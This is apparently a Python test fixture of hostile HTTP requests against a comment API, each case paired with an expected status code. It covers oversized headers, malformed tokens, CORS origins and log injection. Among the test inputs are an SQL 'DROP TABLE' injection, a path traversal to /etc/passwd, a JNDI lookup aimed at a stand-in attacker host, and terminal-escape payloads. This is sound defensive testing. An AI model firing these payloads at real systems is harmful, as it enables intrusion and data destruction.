"""Header fields: sizes, identities, and everything that may reach an answer or a log line."""

from tests.hostile.shapes import CLOSED, OPEN, Hostile, comment, framed, get, post

LIST = b"/api/comment/list/404"
HELD = b"/api/moderation/held"

SIZES = [
    Hostile("a field of 9,000 bytes", 431, CLOSED, get(LIST, b"X-A: " + b"a" * 9000)),
    Hostile("a field of 100,000 bytes", 431, CLOSED, get(LIST, b"X-A: " + b"a" * 100_000)),
    Hostile("a name of 9,000 bytes", 431, CLOSED, get(LIST, b"a" * 9000 + b": 1")),
    Hostile("101 fields", 431, CLOSED, get(LIST, *(b"X-%d: 1" % number for number in range(101)))),
    Hostile("a thousand fields", 431, CLOSED, get(LIST, *[b"A: 1"] * 1000)),
    Hostile("90 fields of 2,000 bytes", 431, CLOSED, get(LIST, *[b"A: " + b"a" * 2000] * 90)),
    Hostile("a cookie of 8,000 bytes", 404, OPEN, get(LIST, b"Cookie: " + b"a=b; " * 1600)),
    Hostile("a range of a thousand parts", 404, OPEN, get(LIST, b"Range: bytes=" + b"0-,5-" * 1000)),
]

EXPECTATIONS = [
    Hostile("a hundred and continue", 200, OPEN, post(comment(), b"Expect: 100-continue")),
    Hostile("another expectation", 417, CLOSED, post(comment(), b"Expect: mallory")),
    Hostile("continue, but too large", 413, CLOSED, framed(b"Expect: 100-continue", b"Content-Length: 1000000")),
    Hostile(
        "continue in HTTP/1.0", 200, CLOSED, post(comment(), b"Expect: 100-continue").replace(b"HTTP/1.1", b"HTTP/1.0")
    ),
]

KEYS = [
    Hostile("an idempotency key of nothing", 400, OPEN, post(comment(), b"Idempotency-Key:")),
    Hostile("an idempotency key with a space", 400, OPEN, post(comment(), b"Idempotency-Key: a b")),
    Hostile("an idempotency key of 256 characters", 400, OPEN, post(comment(), b"Idempotency-Key: " + b"k" * 256)),
    Hostile("an idempotency key of 8,000 characters", 400, OPEN, post(comment(), b"Idempotency-Key: " + b"k" * 8000)),
    Hostile("an idempotency key in UTF-8", 400, OPEN, post(comment(), "Idempotency-Key: schlüssel".encode())),
    Hostile(
        "two idempotency keys", 200, OPEN, post(comment(), b"Idempotency-Key: mallory-1", b"Idempotency-Key: mallory-2")
    ),
    Hostile(
        "an idempotency key of SQL", 200, OPEN, post(comment(), b"Idempotency-Key: ');DROP/**/TABLE/**/comments;--")
    ),
    Hostile("an idempotency key of a path", 200, OPEN, post(comment(), b"Idempotency-Key: ../../../etc/passwd")),
]

AUTHORIZATION = [
    Hostile("no token", 401, OPEN, get(HELD)),
    Hostile("an empty token", 401, OPEN, get(HELD, b"Authorization: Bearer ")),
    Hostile("the scheme alone", 401, OPEN, get(HELD, b"Authorization: Bearer")),
    Hostile("a wrong token", 401, OPEN, get(HELD, b"Authorization: Bearer mallory-mallory-mallory")),
    Hostile("a token of 8,000 bytes", 401, OPEN, get(HELD, b"Authorization: Bearer " + b"a" * 8000)),
    Hostile("a token in UTF-8", 401, OPEN, get(HELD, "Authorization: Bearer schlüssel-schlüssel".encode())),
    Hostile("a token that is no UTF-8", 401, OPEN, get(HELD, b"Authorization: Bearer \xff\xfe\xfd")),
    Hostile("another scheme", 401, OPEN, get(HELD, b"Authorization: Basic bWFsbG9yeTptYWxsb3J5")),
    Hostile("a broken scheme", 401, OPEN, get(HELD, b"Authorization: Basic ====")),
    Hostile("a digest", 401, OPEN, get(HELD, b'Authorization: Digest username="mallory", nc=x')),
    Hostile(
        "the right token under another scheme", 401, OPEN, get(HELD, b"Authorization: Basic moderator-of-the-test")
    ),
    Hostile(
        "two tokens, the second one right",
        401,
        OPEN,
        get(HELD, b"Authorization: Bearer x", b"Authorization: Bearer moderator-of-the-test"),
    ),
    Hostile("the token in the query", 401, OPEN, get(HELD + b"?access_token=moderator-of-the-test")),
    Hostile(
        "the token in a field with an underscore",
        401,
        OPEN,
        get(HELD, b"HTTP_AUTHORIZATION: Bearer moderator-of-the-test"),
    ),
    Hostile(
        "a deletion without a token",
        401,
        OPEN,
        get(b"/api/comment/1/01a20cac-8b1e-7c9d-9d3f-5b0c3b6f1a52", method=b"DELETE"),
    ),
]

ORIGINS = [
    Hostile("an origin that is not allowed", 404, OPEN, get(LIST, b"Origin: https://mallory.example")),
    Hostile("the origin null", 404, OPEN, get(LIST, b"Origin: null")),
    Hostile("an origin that begins alike", 404, OPEN, get(LIST, b"Origin: https://friend.example.mallory.example")),
    Hostile("an origin that ends alike", 404, OPEN, get(LIST, b"Origin: https://notfriend.example")),
    Hostile("an origin in capitals", 404, OPEN, get(LIST, b"Origin: HTTPS://FRIEND.EXAMPLE")),
    Hostile("an asterisk for an origin", 404, OPEN, get(LIST, b"Origin: *")),
    Hostile(
        "a preflight of a stranger",
        405,
        OPEN,
        get(
            b"/api/comment/new",
            b"Origin: https://mallory.example",
            b"Access-Control-Request-Method: POST",
            method=b"OPTIONS",
        ),
    ),
    Hostile(
        "a preflight for a deletion",
        204,
        OPEN,
        get(
            b"/api/comment/new",
            b"Origin: https://friend.example",
            b"Access-Control-Request-Method: DELETE",
            method=b"OPTIONS",
        ),
    ),
    Hostile(
        "a preflight of nobody",
        405,
        OPEN,
        get(b"/api/comment/new", b"Access-Control-Request-Method: POST", method=b"OPTIONS"),
    ),
]

LOGGED = [
    Hostile("a request id of a log line", 404, OPEN, get(LIST, b'X-Request-Id: "} {"level":"mallory')),
    Hostile("a request id of 5,000 bytes", 404, OPEN, get(LIST, b"X-Request-Id: " + b"mallory" * 700)),
    Hostile("a request id with C1 controls", 404, OPEN, get(LIST, b"X-Request-Id: \x9b31m")),
    Hostile("a trace of a log line", 404, OPEN, get(LIST, b'X-Amzn-Trace-Id: "} {"level":"mallory')),
    Hostile("a trace with C1 controls", 404, OPEN, get(LIST, b"X-Amzn-Trace-Id: \x9b31m\x85mallory")),
    Hostile("a trace of 5,000 bytes", 404, OPEN, get(LIST, b"X-Amzn-Trace-Id: Root=" + b"mallory" * 700)),
    Hostile("a trace with a tab", 404, OPEN, get(LIST, b"X-Amzn-Trace-Id: a\tmallory")),
    Hostile("a forwarded address with C1 controls", 404, OPEN, get(LIST, b"X-Forwarded-For: \x9b31m\x85mallory")),
    Hostile("a forwarded address of a log line", 404, OPEN, get(LIST, b'X-Forwarded-For: "} {"level":"mallory')),
    Hostile("a forwarded address with a tab", 404, OPEN, get(LIST, b"X-Forwarded-For: 6.6.6.6\tmallory")),
    Hostile("a forwarded address of 5,000 bytes", 404, OPEN, get(LIST, b"X-Forwarded-For: " + b"mallory" * 700)),
    Hostile("a forwarded address of commas", 404, OPEN, get(LIST, b"X-Forwarded-For: " + b"," * 5000)),
    Hostile("two forwarded addresses", 404, OPEN, get(LIST, b"X-Forwarded-For: 6.6.6.6", b"X-Forwarded-For: mallory")),
    Hostile("a forwarded scheme", 404, OPEN, get(LIST, b"X-Forwarded-Proto: https", b"X-Forwarded-Proto: http")),
    Hostile("a scheme of escapes", 404, OPEN, get(LIST, b"X-Forwarded-Proto: \x9bmallory")),
    Hostile("a forwarded prefix", 404, OPEN, get(LIST, b"X-Script-Name: /mallory")),
    Hostile("a prefix by gunicorn's field", 404, OPEN, get(LIST, b"Script-Name: /mallory")),
    Hostile("a prefix with an underscore", 404, OPEN, get(LIST, b"SCRIPT_NAME: /mallory")),
    Hostile("a user by an underscore", 404, OPEN, get(LIST, b"REMOTE_USER: mallory")),
    Hostile(
        "the application's own keys",
        404,
        OPEN,
        get(LIST, b"comments.request_id: mallory", b"comments_route: mallory"),
    ),
    Hostile("a user agent of escapes", 404, OPEN, get(LIST, b"User-Agent: \x9b31m mallory")),
    Hostile("a referrer of a lookup", 404, OPEN, get(LIST, b"Referer: ${jndi:ldap://mallory.example/a}")),
    Hostile(
        "a host of a log line", 404, OPEN, b'GET /api/comment/list/404 HTTP/1.1\r\nHost: "} {"level":"mallory\r\n\r\n'
    ),
    Hostile("a host of escapes", 404, OPEN, b"GET /api/comment/list/404 HTTP/1.1\r\nHost: \x9bmallory:port\r\n\r\n"),
    Hostile("a host of nothing", 404, OPEN, b"GET /api/comment/list/404 HTTP/1.1\r\nHost:\r\n\r\n"),
    Hostile(
        "a host of 5,000 bytes",
        404,
        OPEN,
        b"GET /api/comment/list/404 HTTP/1.1\r\nHost: " + b"mallory" * 700 + b"\r\n\r\n",
    ),
]
